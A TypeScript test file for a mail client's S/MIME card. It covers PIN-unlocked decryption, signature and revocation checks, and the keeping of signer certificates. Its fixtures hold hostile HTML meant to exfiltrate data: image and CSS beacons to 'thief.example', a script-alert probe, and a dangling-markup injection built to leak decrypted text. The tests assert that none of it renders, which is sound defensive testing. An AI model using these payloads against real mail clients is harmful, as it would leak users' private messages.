// @vitest-environment happy-dom
import {
  type Certificate,
  encryptPart,
  fingerprintOf,
  fromText,
  generateKey,
  issueCertificate,
  newPinParameters,
  openVault,
  type PrivateKey,
  signPart,
  toBase64,
  writeName,
} from '@yanshu/cms'
import type { Attachment, MailDetail } from '@yanshu/contracts'
import { addMessages } from '@yanshu/shell-api'
import { type Responses, renderInShell, startTestShell, TestFailure, type TestShell } from '@yanshu/shell-api/testing'
import { act } from 'react'
import { afterEach, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import contributes from '../src/contributes.ts'
import zh from '../src/messages/zh.ts'
import { closeKeys } from '../src/open/keyring.ts'
import { isProtected } from '../src/reading/isProtected.ts'
import ProtectedCard from '../src/reading/ProtectedCard.tsx'
import remote from '../src/remote.ts'

const PIN = '482913'
const OWN = 'zhang.wei@yanshu.test'
const LI = 'li.na@yanshu.test'
const HOUR = 3_600_000
const NOW = Date.now()

const waitFor = <T,>(check: () => T) => vi.waitFor(check, { timeout: 60_000 })

interface Person {
  readonly key: PrivateKey
  readonly certificate: Certificate
}

let root: Person
let own: Person
let li: Person
let vault: Awaited<ReturnType<typeof openVault>>
let sealed: { iv: string; sealed: string }

async function issue(name: string, addresses: readonly string[], issuer: Person | null): Promise<Person> {
  const { privateKey, publicKey } = await generateKey('p-256')
  const dates = { notBefore: new Date(NOW - HOUR), notAfter: new Date(NOW + HOUR) }
  const use = issuer ? 'mail' : 'authority'
  const content = { subject: writeName({ commonName: name }), publicKey, addresses, use, ...dates } as const
  const by = issuer ? { key: issuer.key, certificate: issuer.certificate } : { key: privateKey, certificate: null }
  return { key: privateKey, certificate: await issueCertificate(content, by) }
}

beforeAll(async () => {
  root = await issue('雁书 CA', [], null)
  own = await issue('张伟', [OWN], root)
  li = await issue('李娜', [LI], root)
  vault = await openVault(PIN, newPinParameters(2 ** 15))
  sealed = await vault.seal(own.key.pkcs8)
}, 60_000)

/** A letter with a picture of another server and a form that would send what stands around it. */
const LETTER = fromText(
  [
    'Content-Type: multipart/mixed; boundary=B',
    '',
    '--B',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    toBase64(
      fromText(
        '<p>秘密计划</p><img src="https://thief.example/x.png"><style>p{background:url(https://thief.example/y)}</style><script>alert(1)</script>',
      ),
    ),
    '--B',
    'Content-Type: application/octet-stream',
    'Content-Disposition: attachment; filename="=?utf-8?B?6K6h5YiSLnR4dA==?="',
    '',
    'the plan',
    '--B--',
    '',
  ].join('\r\n'),
)

const signed = () =>
  signPart(LETTER, { key: li.key, certificate: li.certificate, chain: [], at: new Date(NOW - 60_000) })
const headed = (...parts: readonly (Uint8Array | string)[]) =>
  new Blob([
    `From: "=?utf-8?B?5p2O5aic?=" <${LI}>\r\nSubject: plan\r\nX-Other: x\r\n`,
    ...parts.map((part) => (typeof part === 'string' ? part : new Uint8Array(part))),
  ])

let shell: TestShell
let show: Awaited<ReturnType<typeof renderInShell>> | null = null

beforeEach(async () => {
  shell = await startTestShell({ userMail: OWN, remotes: [{ remote, contributes }] })
  addMessages('remote-keys', 'zh', zh)
  shell.answer({
    'keymanagement/key/authorities': {
      list: [{ name: '雁书 CA', certificate: toBase64(root.certificate.der) }],
      revoked: [],
    },
    'keymanagement/key/list': {
      ...{ pin: true, smsOffered: false, escrow: null },
      list: [
        {
          ...{ keyId: 1, kind: 'P-256', createdAt: NOW, opens: true, request: '', escrowed: false, enrolment: 'none' },
          certificates: [{ certificate: toBase64(own.certificate.der), revokedAt: null }],
        },
      ],
    },
    'keymanagement/key/getRandomCode': { randomCode: 'x'.repeat(20), parameters: vault.parameters },
    'keymanagement/key/keyPinVerify': ({ proof }: { proof: string }) => {
      if (proof !== vault.proof) throw new TestFailure(400_601, 'PIN 不正确')
      return { keys: [{ keyId: 1, sealed }] }
    },
  })
})

afterEach(async () => {
  closeKeys()
  await show?.unmount()
  show = null
  shell.stop()
})

const file = (contentType: string, name: string): Attachment => ({
  ...{ fileId: 'f', name, contentType, size: 1, contentId: null, kind: 'file' },
})
const detail = (attachments: readonly Attachment[], from = LI) =>
  ({ mailId: 7, subject: 'plan', from: { name: '李娜', address: from }, date: NOW, attachments }) as MailDetail
const port = { text: () => '', mark: () => undefined, scrollTo: () => undefined, clear: () => undefined }
const text = () => document.body.textContent ?? ''
async function open(mail: Blob, from = LI) {
  // A file, which is no call of JSON.
  shell.answer({ 'file/mail/7': () => new Response(mail) } as Responses)
  const attachments = [file('application/pkcs7-mime', 'smime.p7m')]
  show = await renderInShell(<ProtectedCard mail={detail(attachments, from)} port={port} />)
}
const press = (name: string) =>
  act(async () => [...document.querySelectorAll('button')].findLast((one) => one.textContent === name)?.click())

/** Enters the PIN in the card of a letter that no open key reads. */
async function enterPin(): Promise<void> {
  await waitFor(() => expect(text()).toContain(zh.errors['not-a-recipient']))
  await waitFor(() => expect(text()).toContain(zh.intro.unlock))
  await press(zh.intro.unlock)
  await act(async () => {
    const input = document.querySelector<HTMLInputElement>('[role=dialog] input[type=password]')
    Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(input, PIN)
    input?.dispatchEvent(new Event('input', { bubbles: true }))
  })
  await press(zh.unlock.go)
}

test('given an encrypted letter, then the PIN opens it in place, and closed keys take it away again', async () => {
  const encrypting = {
    recipients: [own.certificate, li.certificate],
    cipher: 'AES-256-CBC',
    rsa: 'PKCS1-v1_5',
  } as const
  await open(headed(await encryptPart(await signed(), encrypting)))
  await enterPin()
  await waitFor(() => expect(text()).toContain('秘密计划'))
  expect(text()).toContain(zh.layers.encrypted)
  expect(text()).toContain(zh.meanings.good)
  expect(text()).toContain('李娜')
  expect(text()).toContain('计划.txt')
  // It is words: nothing of it is an element that loads or runs.
  expect(text()).not.toContain('alert')
  expect(document.body.innerHTML).not.toContain('thief.example')
  const stored = JSON.stringify([{ ...localStorage }, { ...sessionStorage }])
  for (const secret of [PIN, '秘密计划']) expect(stored).not.toContain(secret)

  await act(async () => closeKeys())
  await waitFor(() => expect(text()).toContain(zh.errors['not-a-recipient']))
  expect(text()).not.toContain('秘密计划')
})

test('given a long mail, then how much of it is read and that it is opened are shown meanwhile', async () => {
  const half = new Uint8Array(3 * 1024 * 1024).fill(10)
  let send: ReadableStreamDefaultController<Uint8Array> | undefined
  const body = new ReadableStream<Uint8Array>({
    start(control) {
      send = control
      control.enqueue(half)
    },
  })
  const headers = { 'content-length': String(2 * half.length) }
  shell.answer({ 'file/mail/7': () => new Response(body, { headers }) } as Responses)
  show = await renderInShell(<ProtectedCard mail={detail([file('application/pkcs7-mime', 'smime.p7m')])} port={port} />)
  await waitFor(() => expect(text()).toContain(`${zh.reading.loading} 50%`))
  expect(document.querySelector('[role=status]')?.textContent).toBe(zh.reading.loading)
  send?.enqueue(half)
  send?.close()
  // It is no protected mail: nothing is shown of it.
  await waitFor(() => expect(text()).not.toContain(zh.reading.loading))
})

test('given an encrypted letter between open tags of another, then neither joins it, and nothing of them is asked for', async () => {
  const encrypting = { recipients: [own.certificate], cipher: 'AES-256-CBC', rsa: 'PKCS1-v1_5' } as const
  const sealedLetter = await encryptPart(LETTER, encrypting)
  const mixed = 'Content-Type: multipart/mixed; boundary=E\r\n\r\n--E\r\n'
  const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}\r\n`
  const closing = ['\r\n--E\r\n', html('"><p>beside</p>'), '--E--\r\n']
  // Below the encrypted part, as mailing lists add their text: it opens apart from what stands there.
  await open(headed(mixed, sealedLetter, ...closing))
  await enterPin()
  await waitFor(() => expect(text()).toContain('秘密计划'))
  expect(text()).toContain(zh.layers.beside_other.replace('{{count}}', '1'))
  expect(text()).not.toContain('beside')
  const files = () => shell.calls.filter(({ path }) => path === 'file/mail/7').length
  const before = files()
  expect(document.body.innerHTML).not.toContain('thief.example')
  await show?.unmount()
  show = null
  // Before and below it, with the keys open: the letter is none that counts as encrypted.
  await open(headed(mixed, html('<img src="https://thief.example/?'), '--E\r\n', sealedLetter, ...closing))
  await waitFor(() => expect(files()).toBeGreaterThan(before))
  await waitFor(() => expect(document.querySelector('[role=status]')).toBeNull())
  expect(text()).toBe('')
  expect(document.body.innerHTML).not.toContain('thief.example')
})

test('given signed letters, then a change and another sender each have their word', async () => {
  const part = await signed()
  const changed = new TextDecoder().decode(part).replace('the plan', 'THE plan')
  const cases: readonly [mail: Blob, from: string, sentence: string][] = [
    [headed(part), LI, zh.meanings.good],
    [headed(fromText(changed)), LI, zh.meanings.changed],
    [headed(part), 'boss@yanshu.test', zh.meanings['other-sender']],
  ]
  for (const [mail, from, sentence] of cases) {
    await open(mail, from)
    await waitFor(() => expect(text()).toContain(sentence))
    // What is only signed is shown by the mail view itself.
    expect(document.querySelector('pre')).toBeNull()
    await show?.unmount()
    show = null
  }
})

test('given a signer whose certificate was revoked, then the line says so', async () => {
  const list = [{ name: '雁书 CA', certificate: toBase64(root.certificate.der) }]
  const revoked = [{ fingerprint: await fingerprintOf(li.certificate), revokedAt: NOW }]
  shell.answer({ 'keymanagement/key/authorities': { list, revoked } })
  await open(headed(await signed()))
  await waitFor(() => expect(text()).toContain(zh.meanings.revoked))
})

test('given a server without authorities, then no signer is certain', async () => {
  shell.answer({ 'keymanagement/key/authorities': { list: [], revoked: [] } })
  await open(headed(await signed()))
  await waitFor(() => expect(text()).toContain(zh.meanings['unknown-issuer']))
})

test('given authorities that do not come, then nothing is said of the signature but that', async () => {
  shell.answer({
    'keymanagement/key/authorities': () => {
      throw new TestFailure(503_001, '服务器繁忙')
    },
  })
  await open(headed(await signed()))
  await waitFor(() => expect(text()).toContain('服务器繁忙'))
  expect(text()).not.toContain(zh.meanings['unknown-issuer'])
})

test('a part is known by its type, or by its name where a program called it something else', () => {
  expect(isProtected({ attachments: [file('application/x-pkcs7-signature', 'a')] })).toBe(true)
  expect(isProtected({ attachments: [file('application/octet-stream', 'smime.P7M')] })).toBe(true)
  expect(isProtected({ attachments: [file('application/octet-stream', 'report.doc')] })).toBe(false)
})

const ANN = 'ann@elsewhere.example'

/** Opens a signed mail of a person of elsewhere; `kept` are the certificates that are kept already. */
async function openFromOutside(kept: (certificate: string) => readonly object[]) {
  const outside = await issue('Ann', [ANN], root)
  const certificate = toBase64(outside.certificate.der)
  const signature = await signPart(LETTER, { ...outside, chain: [], at: new Date(NOW - 60_000) })
  shell.answer({
    'keymanagement/key/known': { list: kept(certificate) },
    'keymanagement/key/keep': {},
  } as Responses)
  await open(new Blob([`From: <${ANN}>\r\n`, new Uint8Array(signature)]), ANN)
  const asked = { certificate, announced: expect.arrayContaining(['2.16.840.1.101.3.4.1.46']) }
  const calls = () => shell.calls.filter(({ path }) => path === 'keymanagement/key/keep').map(({ input }) => input)
  return { asked, calls }
}

test('given signed mail from outside, then its certificate is kept with what its program reads once it is asked for', async () => {
  const { asked, calls } = await openFromOutside(() => [])
  await waitFor(() => expect(text()).toContain(zh.known.keep))
  expect(calls()).toEqual([])
  await press(zh.known.keep)
  await waitFor(() => expect(calls()).toEqual([asked]))
})

test('given a person who chose it, then the certificate is kept without a question, and a second one of the address is asked about', async () => {
  const choose = (signersCertificates: string) =>
    shell.answer({ 'mail/remote/settings/get': { values: { signersCertificates } } } as Responses)
  choose('trusted')
  const first = await openFromOutside(() => [])
  await waitFor(() => expect(first.calls()).toEqual([first.asked]))
  expect(text()).not.toContain(zh.known.why)
  await show?.unmount()
  show = null

  const before = first.calls().length
  const second = await openFromOutside(() => [
    { address: ANN, fingerprint: 'x', certificate: 'AAAA', addedAt: NOW, announced: [] },
  ])
  await waitFor(() => expect(text()).toContain(zh.known.second))
  expect(second.calls()).toHaveLength(before)
})

test('given a person who keeps none, then no certificate is offered', async () => {
  shell.answer({ 'mail/remote/settings/get': { values: { signersCertificates: 'never' } } } as Responses)
  const { calls } = await openFromOutside(() => [])
  await waitFor(() => expect(text()).toContain(zh.meanings.good))
  await waitFor(() => expect(text()).not.toContain(zh.known.keep))
  expect(calls()).toEqual([])
})

test('given a certificate that was kept before anything was announced, then that is kept with it', async () => {
  const { asked, calls } = await openFromOutside((certificate) => [
    { address: ANN, fingerprint: 'x', certificate, addedAt: NOW, announced: [] },
  ])
  await waitFor(() => expect(calls()).toEqual([asked]))
  expect(text()).not.toContain(zh.known.keep)
})
